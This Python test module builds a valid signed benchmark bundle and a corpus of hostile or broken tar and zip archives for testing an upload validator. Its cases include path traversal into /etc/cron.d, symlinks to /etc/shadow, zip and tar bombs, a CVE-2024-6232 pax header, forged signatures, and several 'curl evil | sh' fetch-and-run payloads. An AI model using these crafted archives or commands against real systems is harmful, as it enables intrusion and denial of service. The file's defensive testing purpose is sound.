"""Builders for a good bundle and a corpus of hostile or broken ones.

Nothing binary is committed: every case builds its archive into a directory at
test time (``case.build(tmp_path) -> Path``). ``CorpusCase.codes`` are the problem
codes a full check of the upload must report, exactly; ``layer`` names the first
part of the system that can see them:

- ``archive``: ``artifacts.lib.archive`` alone;
- ``manifest``: ``artifacts.lib.manifest.inspect_bundle`` (manifest, listing);
- ``ingest``: ``inspect_bundle`` told where it was uploaded (``UPLOAD_RFP`` by
  ``UPLOAD_VENDOR``);
- ``signature``: the signature check against the uploader's registered keys,
  registered as ``CORPUS_KEYS`` says (``revoked``/``expired`` keys are registered
  to their ``organisation`` and then revoked / let expire before the upload).

Signatures are made with the real ``ssh-keygen -Y sign`` (or, where it is
missing, ``artifacts.lib.signatures.sshsig.sign``) with Ed25519 keys derived from
fixed seeds; members have fixed times and owners, so builds are reproducible.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

NAMESPACE = "reprogate-bundle"
UPLOAD_RFP = "RFP-DEMO-1"
UPLOAD_VENDOR = "acme-flash"
MTIME = 1_764_417_600  # 2025-11-29T12:00:00Z

Layer = Literal["archive", "manifest", "signature", "ingest"]
EntryType = Literal["file", "dir", "symlink", "hardlink", "chr", "fifo"]


# --- keys ---------------------------------------------------------------------------


@dataclass(frozen=True)
class CorpusKey:
    """An Ed25519 key from a fixed seed. ``organisation``: the slug it is
    registered to (None: never registered); ``state``: what happens to it."""

    name: str
    organisation: str | None
    state: Literal["valid", "revoked", "expired", "unregistered"]

    @property
    def private_key(self) -> Ed25519PrivateKey:
        seed = hashlib.sha256(f"reprogate-corpus/{self.name}".encode()).digest()
        return Ed25519PrivateKey.from_private_bytes(seed)

    @property
    def public_line(self) -> str:
        public = self.private_key.public_key().public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        )
        return f"{public.decode()} corpus-{self.name}"

    def private_openssh(self) -> bytes:
        return self.private_key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.OpenSSH,
            serialization.NoEncryption(),
        )


CORPUS_KEYS: dict[str, CorpusKey] = {
    key.name: key
    for key in (
        CorpusKey("vendor_a", "acme-flash", "valid"),
        CorpusKey("vendor_a_revoked", "acme-flash", "revoked"),
        CorpusKey("vendor_a_expired", "acme-flash", "expired"),
        CorpusKey("vendor_b", "bolt-storage", "valid"),
        CorpusKey("stranger", None, "unregistered"),
    )
}

ORGANISATION_KEY_PREFIX = "org-"


def corpus_key(name: str) -> CorpusKey:
    """The corpus key ``name``, or for ``org-<slug>`` a valid key of that
    organisation's own (a key is registered by one organisation only)."""
    if name in CORPUS_KEYS:
        return CORPUS_KEYS[name]
    if name.startswith(ORGANISATION_KEY_PREFIX):
        return CorpusKey(name, name.removeprefix(ORGANISATION_KEY_PREFIX), "valid")
    raise KeyError(name)


def sign(
    data: bytes, directory: Path, *, key: str = "vendor_a", namespace: str = NAMESPACE
) -> bytes:
    """An armored SSHSIG over ``data``, made by ``ssh-keygen -Y sign``."""
    if shutil.which("ssh-keygen") is None:
        return _sign_in_python(data, key, namespace)
    work = Path(tempfile.mkdtemp(dir=directory, prefix="sign-"))
    key_file = work / "key"
    key_file.write_bytes(corpus_key(key).private_openssh())
    key_file.chmod(0o600)
    message = work / "manifest.json"
    message.write_bytes(data)
    command = ["ssh-keygen", "-q", "-Y", "sign", "-f", str(key_file), "-n", namespace]
    subprocess.run([*command, str(message)], check=True, capture_output=True)
    return (work / "manifest.json.sig").read_bytes()


def _sign_in_python(data: bytes, key: str, namespace: str) -> bytes:
    from artifacts.lib.signatures import sshkeys, sshsig

    private = sshkeys.load_private_key(corpus_key(key).private_openssh())
    return sshsig.sign(data, private, namespace=namespace).encode()


# --- contents -----------------------------------------------------------------------


def noise(size: int, seed: str = "noise") -> bytes:
    """Deterministic bytes that do not compress."""
    blocks = (
        hashlib.sha256(f"{seed}/{i}".encode()).digest() for i in range(size // 32 + 1)
    )
    return b"".join(blocks)[:size]


def good_files() -> dict[str, bytes]:
    """The files of a small, complete bundle (docs/bundle-format.md)."""
    return {
        "workloads/llama70b-chat.json": b'{"model": "llama-70b", "prompts": 512}\n',
        "environment/manifest.json": b'{"os": "Ubuntu 24.04", "kernel": "6.8.0"}\n',
        "harness/run.sh": b'#!/bin/sh\nfio --output-format=json job.fio > "$OUT"\n',
        "traces/fio-randread.json": b'{"jobs": [{"read": {"iops": 812345.0}}]}\n',
        "cost/model.json": b'{"capex_usd": 120000, "opex_usd_month": 900}\n',
        "reports/summary.md": b"# Summary\n\np99 TTFT 180 ms at 32 users.\n",
    }


KINDS = {
    "workloads": "workload",
    "environment": "environment",
    "harness": "harness",
    "traces": "trace",
    "cost": "cost_model",
    "reports": "report",
    "containers": "container_image",
    "iac": "iac",
    "runbooks": "runbook",
    "sbom": "sbom",
}


def file_entry(path: str, data: bytes) -> dict[str, Any]:
    kind = KINDS.get(path.split("/", 1)[0], "other")
    sha256 = hashlib.sha256(data).hexdigest()
    return {"path": path, "sha256": sha256, "size": len(data), "kind": kind}


def good_manifest(files: Mapping[str, bytes], **changes: Any) -> dict[str, Any]:
    """A valid manifest listing ``files``; ``changes`` replace top-level keys."""
    manifest: dict[str, Any] = {
        "schema": "reprogate.bundle/v1",
        "rfp": UPLOAD_RFP,
        "vendor": UPLOAD_VENDOR,
        "created": "2025-11-29T12:00:00Z",
        "files": [file_entry(path, data) for path, data in sorted(files.items())],
        "harness": {
            "entrypoint": "harness/run.sh",
            "outputs": [{"path": "fio.json", "parser": "fio-json"}],
            "scenarios": [
                {
                    "name": "cold-c32",
                    "cache": "cold",
                    "concurrency": 32,
                    "batch_size": 8,
                    "duration_s": 60,
                }
            ],
        },
        "claims": [
            {
                "metric": "ttft_ms",
                "stat": "p99",
                "scenario": "cold-c32",
                "value": 180.0,
                "unit": "ms",
            }
        ],
    }
    return manifest | changes


def manifest_bytes(manifest: Mapping[str, Any]) -> bytes:
    return (json.dumps(manifest, indent=2, ensure_ascii=False) + "\n").encode()


# --- archives -----------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    name: str
    data: bytes = b""
    type: EntryType = "file"
    link: str = ""


def signed_entries(
    directory: Path,
    files: Mapping[str, bytes],
    manifest: bytes | None = None,
    *,
    key: str = "vendor_a",
    namespace: str = NAMESPACE,
) -> list[Entry]:
    """``manifest.json`` (made from ``files`` unless given), its signature and
    the files, as archive entries."""
    manifest = (
        manifest if manifest is not None else manifest_bytes(good_manifest(files))
    )
    signature = sign(manifest, directory, key=key, namespace=namespace)
    return [
        Entry("manifest.json", manifest),
        Entry("manifest.json.sig", signature),
        *(Entry(path, data) for path, data in sorted(files.items())),
    ]


_TAR_TYPES = {
    "file": tarfile.REGTYPE,
    "dir": tarfile.DIRTYPE,
    "symlink": tarfile.SYMTYPE,
    "hardlink": tarfile.LNKTYPE,
    "chr": tarfile.CHRTYPE,
    "fifo": tarfile.FIFOTYPE,
}


def _tar_info(entry: Entry) -> tarfile.TarInfo:
    info = tarfile.TarInfo(entry.name)
    info.type = _TAR_TYPES[entry.type]
    info.size = len(entry.data) if entry.type == "file" else 0
    info.linkname, info.mtime = entry.link, MTIME
    info.mode = 0o755 if entry.type == "dir" else 0o644
    info.uid = info.gid = 0
    info.uname = info.gname = ""
    if entry.type == "chr":
        info.devmajor, info.devminor = 1, 3
    return info


def write_tar(
    path: Path,
    entries: list[Entry],
    *,
    compression: Literal["", "gz", "bz2"] = "gz",
    tar_format: int = tarfile.PAX_FORMAT,
) -> Path:
    """A tar archive of ``entries`` in the given order (not sorted: hostile
    cases choose their order)."""
    mode = f"w:{compression}" if compression else "w"
    with tarfile.open(path, mode, format=tar_format) as archive:  # type: ignore[call-overload]
        for entry in entries:
            archive.addfile(_tar_info(entry), io.BytesIO(entry.data))
    return path


_ZIP_MODES = {
    "file": 0o100644,
    "dir": 0o040755,
    "symlink": 0o120777,
    "chr": 0o020644,
    "fifo": 0o010644,
}


def write_zip(path: Path, entries: list[Entry]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            info = zipfile.ZipInfo(entry.name, date_time=(2025, 11, 29, 12, 0, 0))
            info.create_system = 3
            info.external_attr = _ZIP_MODES[entry.type] << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, entry.link.encode() or entry.data)
    return path


def good_bundle(
    directory: Path, fmt: Literal["tar.gz", "tar", "zip"] = "tar.gz"
) -> Path:
    """A bundle the reader, the manifest check and the signature check accept."""
    entries = signed_entries(directory, good_files())
    if fmt == "zip":
        return write_zip(directory / "bundle.zip", entries)
    compression: Literal["", "gz"] = "gz" if fmt == "tar.gz" else ""
    return write_tar(directory / f"bundle.{fmt}", entries, compression=compression)


# --- zip surgery ----------------------------------------------------------------------


def zip_offsets(data: bytes, name: str) -> tuple[int, int]:
    """Offsets of ``name``'s local header and central directory entry."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local, position = archive.getinfo(name).header_offset, archive.start_dir
    while data[position : position + 4] == b"PK\x01\x02":
        lengths = struct.unpack_from("<3H", data, position + 28)
        if data[position + 46 : position + 46 + lengths[0]] == name.encode():
            return local, position
        position += 46 + sum(lengths)
    raise KeyError(name)


def patch_zip(
    path: Path, name: str, *, flags: int = 0, file_size: int | None = None
) -> Path:
    """OR ``flags`` into ``name``'s flag bits and/or overwrite its stated
    uncompressed size, in its local header and its directory entry alike."""
    data = bytearray(path.read_bytes())
    local, central = zip_offsets(bytes(data), name)
    for flag_at in (local + 6, central + 8):
        (value,) = struct.unpack_from("<H", data, flag_at)
        struct.pack_into("<H", data, flag_at, value | flags)
    if file_size is not None:
        for size_at in (local + 22, central + 24):
            struct.pack_into("<L", data, size_at, file_size)
    path.write_bytes(bytes(data))
    return path


def duplicate_zip_entry(path: Path, name: str) -> Path:
    """Add a second central directory entry pointing at ``name``'s local header,
    so two entries share the same bytes (an overlapping-entries zip bomb)."""
    data = path.read_bytes()
    _, central = zip_offsets(data, name)
    end = data.rindex(b"PK\x05\x06")
    size = 46 + sum(struct.unpack_from("<3H", data, central + 28))
    record = bytearray(data[end:])
    count, directory_size = struct.unpack_from("<HL", record, 10)
    struct.pack_into("<HHL", record, 8, count + 1, count + 1, directory_size + size)
    path.write_bytes(data[:end] + data[central : central + size] + bytes(record))
    return path


# --- the corpus ---------------------------------------------------------------------


@dataclass(frozen=True)
class CorpusCase:
    name: str
    build: Callable[[Path], Path]
    codes: frozenset[str]
    layer: Layer
    description: str
    key: str = "vendor_a"  # the key that signed manifest.json


CORPUS: list[CorpusCase] = []


def case(
    layer: Layer, *codes: str, key: str = "vendor_a"
) -> Callable[[Callable[[Path], Path]], Callable[[Path], Path]]:
    """Register the decorated builder; its docstring describes the case."""

    def register(build: Callable[[Path], Path]) -> Callable[[Path], Path]:
        description = (build.__doc__ or "").strip()
        name = build.__name__.removeprefix("build_")
        CORPUS.append(
            CorpusCase(name, build, frozenset(codes), layer, description, key)
        )
        return build

    return register


def _with_extra(directory: Path, *extra: Entry, fmt: str = "tar.gz") -> Path:
    """The good bundle with ``extra`` entries appended."""
    entries = [*signed_entries(directory, good_files()), *extra]
    if fmt == "zip":
        return write_zip(directory / "bundle.zip", entries)
    return write_tar(directory / "bundle.tar.gz", entries)


# archive layer --------------------------------------------------------------------


@case("archive", "path_traversal")
def build_path_traversal(directory: Path) -> Path:
    """A member climbs out of the bundle with '..'."""
    return _with_extra(
        directory, Entry("../../etc/cron.d/evil", b"* * * * * root id\n")
    )


@case("archive", "path_absolute")
def build_absolute_path(directory: Path) -> Path:
    """A member with an absolute path."""
    return _with_extra(directory, Entry("/etc/profile.d/evil.sh", b"id\n"))


@case("archive", "member_symlink")
def build_symlink(directory: Path) -> Path:
    """A symbolic link pointing outside the bundle."""
    link = Entry("harness/helper.sh", type="symlink", link="/etc/shadow")
    return _with_extra(directory, link)


@case("archive", "member_hardlink")
def build_hardlink(directory: Path) -> Path:
    """A hard link to a listed file."""
    link = Entry("traces/copy.json", type="hardlink", link="traces/fio-randread.json")
    return _with_extra(directory, link)


@case("archive", "member_device")
def build_device(directory: Path) -> Path:
    """A character device node (tarfile CHRTYPE)."""
    return _with_extra(directory, Entry("dev/mem", type="chr"))


@case("archive", "member_fifo")
def build_fifo(directory: Path) -> Path:
    """A named pipe."""
    return _with_extra(directory, Entry("harness/pipe", type="fifo"))


@case("archive", "name_duplicate")
def build_duplicate_name(directory: Path) -> Path:
    """harness/run.sh twice: the second copy would win when extracted."""
    return _with_extra(
        directory, Entry("harness/run.sh", b"#!/bin/sh\ncurl evil | sh\n")
    )


@case("archive", "name_collision")
def build_case_collision(directory: Path) -> Path:
    """Two paths that differ only in letter case."""
    return _with_extra(directory, Entry("traces/FIO-randread.json", b"{}\n"))


@case("archive", "path_not_nfc")
def build_unicode_collision(directory: Path) -> Path:
    """Two zip paths that differ only in Unicode normalisation: the NFD one is
    refused (bundle paths are NFC)."""
    files = good_files() | {"reports/caf\u00e9.md": b"NFC\n"}
    entries = signed_entries(directory, files)
    return write_zip(
        directory / "bundle.zip", [*entries, Entry("reports/cafe\u0301.md", b"NFD\n")]
    )


@case("archive", "path_confusable")
def build_look_alike_harness(directory: Path) -> Path:
    """A second harness/run.sh whose first a is Cyrillic (U+0430), listed and
    signed: the reader cannot tell which one runs."""
    files = good_files() | {"h\u0430rness/run.sh": b"#!/bin/sh\ncurl evil | sh\n"}
    return write_tar(directory / "bundle.tar", signed_entries(directory, files))


@case("archive", "name_collision")
def build_file_used_as_directory(directory: Path) -> Path:
    """A file path that another member uses as a directory."""
    return _with_extra(directory, Entry("harness/run.sh/payload", b"x\n"))


@case("archive", "path_empty")
def build_empty_name(directory: Path) -> Path:
    """A regular file named '.'."""
    return _with_extra(directory, Entry(".", b"hidden\n"))


@case("archive", "path_invalid")
def build_control_character(directory: Path) -> Path:
    """A path with a newline in it."""
    return _with_extra(directory, Entry("traces/evil\n.json", b"{}\n"))


@case("archive", "path_traversal")
def build_gnu_longname_traversal(directory: Path) -> Path:
    """A '..' path long enough to need a GNU long-name header."""
    entries = [*signed_entries(directory, good_files()), Entry("../" + "a" * 150, b"x")]
    return write_tar(
        directory / "bundle.tar.gz", entries, tar_format=tarfile.GNU_FORMAT
    )


@case("archive", "path_traversal")
def build_pax_path_traversal(directory: Path) -> Path:
    """A '..' path carried in a pax extended header."""
    entries = [*signed_entries(directory, good_files()), Entry("../" + "b" * 150, b"x")]
    return write_tar(directory / "bundle.tar", entries, compression="")


@case("archive", "path_backslash", "path_traversal")
def build_zip_backslash(directory: Path) -> Path:
    """A zip path using backslashes to climb out ('..\\..\\evil.bat')."""
    return _with_extra(directory, Entry("..\\..\\evil.bat", b"@echo off\n"), fmt="zip")


@case("archive", "member_symlink")
def build_zip_symlink(directory: Path) -> Path:
    """A zip entry whose Unix mode marks it as a symbolic link."""
    link = Entry("harness/helper.sh", type="symlink", link="/etc/shadow")
    return _with_extra(directory, link, fmt="zip")


@case("archive", "member_encrypted")
def build_zip_encrypted(directory: Path) -> Path:
    """A zip entry with the 'encrypted' flag set."""
    path = _with_extra(directory, Entry("reports/secret.md", b"secret\n"), fmt="zip")
    return patch_zip(path, "reports/secret.md", flags=0x1)


@case("archive", "header_size_mismatch")
def build_zip_lying_size(directory: Path) -> Path:
    """A listed zip entry whose headers state a smaller size than its data has."""
    path = _with_extra(directory, fmt="zip")
    return patch_zip(path, "traces/fio-randread.json", file_size=8)


@case("archive", "member_overlap")
def build_zip_overlap(directory: Path) -> Path:
    """Two zip directory entries sharing one entry's bytes."""
    path = _with_extra(directory, fmt="zip")
    return duplicate_zip_entry(path, "traces/fio-randread.json")


@case("archive", "compression_ratio")
def build_zip_bomb(directory: Path) -> Path:
    """A zip entry of 24 MiB of zeros packed into a few KiB."""
    return _with_extra(directory, Entry("traces/zeros.bin", bytes(24 << 20)), fmt="zip")


@case("archive", "compression_ratio")
def build_tar_gz_bomb(directory: Path) -> Path:
    """A tar.gz that unpacks to 40 MiB of zeros from a few KiB."""
    return _with_extra(directory, Entry("traces/zeros.bin", bytes(40 << 20)))


@case("archive", "too_many_members")
def build_tar_bomb_members(directory: Path) -> Path:
    """A tar with 10,001 members, over the member count limit."""
    spam = [Entry(f"spam/{i:05d}", b"") for i in range(10_001)]
    return _with_extra(directory, *spam)


@case("archive", "member_too_large", "archive_truncated")
def build_tar_huge_declared(directory: Path) -> Path:
    """A tar header declaring a 3 GiB member whose data is not there."""
    path = _with_extra(directory)
    with tarfile.open(directory / "huge.tar.gz", "w:gz") as target:
        with tarfile.open(path) as source:
            for member in source:
                target.addfile(member, source.extractfile(member))
        huge = tarfile.TarInfo("traces/huge.bin")
        huge.size, huge.mtime = 3 << 30, MTIME
        target.addfile(huge)  # the header only
    return directory / "huge.tar.gz"


@case("archive", "archive_truncated")
def build_truncated_tar_gz(directory: Path) -> Path:
    """A tar.gz cut off in the middle of its compressed stream."""
    files = good_files() | {"traces/raw.bin": noise(256 << 10)}
    path = write_tar(directory / "bundle.tar.gz", signed_entries(directory, files))
    path.write_bytes(path.read_bytes()[: path.stat().st_size * 3 // 5])
    return path


@case("archive", "archive_truncated")
def build_truncated_tar_at_member_end(directory: Path) -> Path:
    """A plain tar that stops right after a member, without its end marker."""
    path = write_tar(
        directory / "bundle.tar",
        signed_entries(directory, good_files()),
        compression="",
    )
    with tarfile.open(path) as archive:
        last = archive.getmembers()[-1]
    end = last.offset_data + -(-last.size // 512) * 512
    path.write_bytes(path.read_bytes()[:end])
    return path


@case("archive", "archive_truncated")
def build_truncated_zip(directory: Path) -> Path:
    """A zip without its end: the central directory is gone."""
    path = _with_extra(directory, fmt="zip")
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


@case("archive", "archive_trailing_data")
def build_trailing_data(directory: Path) -> Path:
    """Bytes hidden after a tar's end-of-archive marker."""
    entries = signed_entries(directory, good_files())
    path = write_tar(directory / "bundle.tar", entries, compression="")
    path.write_bytes(path.read_bytes() + b"#!/bin/sh\ncurl evil | sh\n")
    return path


@case("archive", "archive_format")
def build_pax_header_oversized(directory: Path) -> Path:
    """A pax header of 100 KB: Python 3.11.7's tarfile spends ~20 s in its
    quadratic pax regular expressions on it (CVE-2024-6232)."""
    path = directory / "bundle.tar"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for entry in signed_entries(directory, good_files()):
            info = _tar_info(entry)
            if entry.name == "reports/summary.md":
                info.pax_headers = {"comment": "1" * 100_000}
            archive.addfile(info, io.BytesIO(entry.data))
    return path


@case("archive", "archive_format")
def build_not_an_archive(directory: Path) -> Path:
    """A PDF uploaded instead of a bundle."""
    path = directory / "bundle.tar.gz"
    path.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n")
    return path


@case("archive", "archive_format")
def build_bzip2_tar(directory: Path) -> Path:
    """A tar compressed with bzip2, which bundles may not use."""
    entries = signed_entries(directory, good_files())
    return write_tar(directory / "bundle.tar.gz", entries, compression="bz2")


@case("archive", "path_traversal", "member_symlink", "member_device", "name_duplicate")
def build_several_problems(directory: Path) -> Path:
    """Traversal, a symlink, a device and a duplicate in one archive."""
    return _with_extra(
        directory,
        Entry("../escape.sh", b"id\n"),
        Entry("harness/link", type="symlink", link="/"),
        Entry("dev/sda", type="chr"),
        Entry("cost/model.json", b'{"capex_usd": 1}\n'),
    )


# manifest layer ---------------------------------------------------------------------


def _signed_bundle(
    directory: Path, files: Mapping[str, bytes], manifest: bytes
) -> Path:
    return write_tar(
        directory / "bundle.tar.gz", signed_entries(directory, files, manifest)
    )


@case("manifest", "manifest_missing")
def build_manifest_missing(directory: Path) -> Path:
    """Files and a signature, but no manifest.json."""
    entries = signed_entries(directory, good_files())[1:]
    return write_tar(directory / "bundle.tar.gz", entries)


@case("manifest", "manifest_missing", "signature_missing")
def build_manifest_in_folder(directory: Path) -> Path:
    """The bundle folder archived instead of its contents (bundle/manifest.json)."""
    entries = [
        Entry(f"bundle/{e.name}", e.data)
        for e in signed_entries(directory, good_files())
    ]
    return write_tar(directory / "bundle.tar.gz", entries)


@case("manifest", "manifest_not_utf8")
def build_manifest_not_utf8(directory: Path) -> Path:
    """manifest.json in Latin-1 (a signed 'Caf\\xe9' in a claim unit)."""
    files = good_files()
    text = manifest_bytes(good_manifest(files)).replace(b'"ms"', b'"ms \xe9"')
    return _signed_bundle(directory, files, text)


@case("manifest", "manifest_bom")
def build_manifest_bom(directory: Path) -> Path:
    """manifest.json saved with a UTF-8 byte-order mark."""
    files = good_files()
    return _signed_bundle(
        directory, files, b"\xef\xbb\xbf" + manifest_bytes(good_manifest(files))
    )


@case("manifest", "manifest_invalid_json")
def build_manifest_invalid_json(directory: Path) -> Path:
    """manifest.json with a trailing comma."""
    files = good_files()
    text = manifest_bytes(good_manifest(files)).rstrip()[:-1] + b", }\n"
    return _signed_bundle(directory, files, text)


@case("manifest", "manifest_duplicate_key")
def build_manifest_duplicate_key(directory: Path) -> Path:
    """ "rfp" given twice: readers disagree on which one counts."""
    files = good_files()
    text = manifest_bytes(good_manifest(files)).replace(
        b"{\n", b'{\n  "rfp": "RFP-DEMO-2",\n', 1
    )
    return _signed_bundle(directory, files, text)


@case("manifest", "manifest_schema")
def build_manifest_schema_errors(directory: Path) -> Path:
    """Several schema errors: bad digest, negative size, unknown kind and key,
    created without a time zone."""
    files = good_files()
    manifest = good_manifest(files, created="2025-11-29 12:00:00", color="red")
    manifest["files"][1] |= {"sha256": "XYZ", "size": -1}
    manifest["files"][2]["kind"] = "binary"
    return _signed_bundle(directory, files, manifest_bytes(manifest))


@case("manifest", "claim_scenario_unknown")
def build_claim_scenario_unknown(directory: Path) -> Path:
    """A claim for a scenario the harness does not define."""
    files = good_files()
    manifest = good_manifest(files)
    manifest["claims"][0]["scenario"] = "warm-c64"
    return _signed_bundle(directory, files, manifest_bytes(manifest))


@case("manifest", "entrypoint_not_harness")
def build_entrypoint_not_harness(directory: Path) -> Path:
    """The harness entrypoint is a trace, not a harness file."""
    files = good_files()
    manifest = good_manifest(files)
    manifest["harness"]["entrypoint"] = "traces/fio-randread.json"
    return _signed_bundle(directory, files, manifest_bytes(manifest))


@case("manifest", "file_unlisted")
def build_file_unlisted(directory: Path) -> Path:
    """A file in the archive that the manifest does not list."""
    return _with_extra(directory, Entry("notes/unlisted.txt", b"not in the manifest\n"))


@case("manifest", "file_missing")
def build_file_missing(directory: Path) -> Path:
    """A listed file left out of the archive."""
    files = good_files()
    entries = signed_entries(directory, files)
    kept = [entry for entry in entries if entry.name != "reports/summary.md"]
    return write_tar(directory / "bundle.tar.gz", kept)


@case("manifest", "size_mismatch")
def build_size_mismatch(directory: Path) -> Path:
    """The manifest lists a wrong size (its digest is right)."""
    files = good_files()
    manifest = good_manifest(files)
    manifest["files"][0]["size"] += 1
    return _signed_bundle(directory, files, manifest_bytes(manifest))


@case("manifest", "digest_mismatch")
def build_digest_mismatch(directory: Path) -> Path:
    """The manifest lists a wrong SHA-256 (its size is right)."""
    files = good_files()
    manifest = good_manifest(files)
    manifest["files"][0]["sha256"] = "0" * 64
    return _signed_bundle(directory, files, manifest_bytes(manifest))


@case("manifest", "digest_mismatch")
def build_tampered_file(directory: Path) -> Path:
    """A file changed after signing, keeping its length."""
    files = good_files()
    manifest = manifest_bytes(good_manifest(files))
    files["traces/fio-randread.json"] = files["traces/fio-randread.json"].replace(
        b"812345", b"912345"
    )
    return _signed_bundle(directory, files, manifest)


# ingest layer (where it was uploaded) -----------------------------------------


@case("ingest", "rfp_mismatch")
def build_wrong_rfp(directory: Path) -> Path:
    """A bundle signed for another RFP, uploaded to RFP-DEMO-1."""
    files = good_files()
    return _signed_bundle(
        directory, files, manifest_bytes(good_manifest(files, rfp="RFP-OTHER-9"))
    )


@case("ingest", "vendor_mismatch")
def build_wrong_vendor(directory: Path) -> Path:
    """A manifest naming bolt-storage, signed with and uploaded by acme-flash."""
    files = good_files()
    return _signed_bundle(
        directory, files, manifest_bytes(good_manifest(files, vendor="bolt-storage"))
    )


# signature layer -------------------------------------------------------------------


@case("signature", "signature_missing")
def build_signature_missing(directory: Path) -> Path:
    """No manifest.json.sig and no manifest.json.dsse."""
    entries = [
        e
        for e in signed_entries(directory, good_files())
        if e.name != "manifest.json.sig"
    ]
    return write_tar(directory / "bundle.tar.gz", entries)


@case("signature", "signature_invalid")
def build_tampered_manifest(directory: Path) -> Path:
    """manifest.json changed after signing (the claimed p99 lowered)."""
    files = good_files()
    entries = signed_entries(directory, files)
    tampered = entries[0].data.replace(b"180.0", b"150.0")
    return write_tar(
        directory / "bundle.tar.gz", [Entry("manifest.json", tampered), *entries[1:]]
    )


@case("signature", "signature_namespace_mismatch")
def build_wrong_namespace(directory: Path) -> Path:
    """Signed with namespace 'file' instead of 'reprogate-bundle'."""
    entries = signed_entries(directory, good_files(), namespace="file")
    return write_tar(directory / "bundle.tar.gz", entries)


@case("signature", "signature_key_not_allowed", key="stranger")
def build_unregistered_key(directory: Path) -> Path:
    """Signed with a key nobody registered."""
    return write_tar(
        directory / "bundle.tar.gz",
        signed_entries(directory, good_files(), key="stranger"),
    )


@case("signature", "signature_key_not_allowed", key="vendor_b")
def build_other_vendor_key(directory: Path) -> Path:
    """Signed with bolt-storage's registered key, uploaded by acme-flash."""
    return write_tar(
        directory / "bundle.tar.gz",
        signed_entries(directory, good_files(), key="vendor_b"),
    )


@case("signature", "signature_key_revoked", key="vendor_a_revoked")
def build_revoked_key(directory: Path) -> Path:
    """Signed with an acme-flash key revoked before the upload."""
    entries = signed_entries(directory, good_files(), key="vendor_a_revoked")
    return write_tar(directory / "bundle.tar.gz", entries)


@case("signature", "signature_key_expired", key="vendor_a_expired")
def build_expired_key(directory: Path) -> Path:
    """Signed with an acme-flash key whose validity ended before the upload."""
    entries = signed_entries(directory, good_files(), key="vendor_a_expired")
    return write_tar(directory / "bundle.tar.gz", entries)


@case("signature", "signature_armor_invalid")
def build_garbage_signature(directory: Path) -> Path:
    """manifest.json.sig is not an SSH signature at all."""
    entries = signed_entries(directory, good_files())
    entries[1] = Entry("manifest.json.sig", b"trust me\n")
    return write_tar(directory / "bundle.tar.gz", entries)
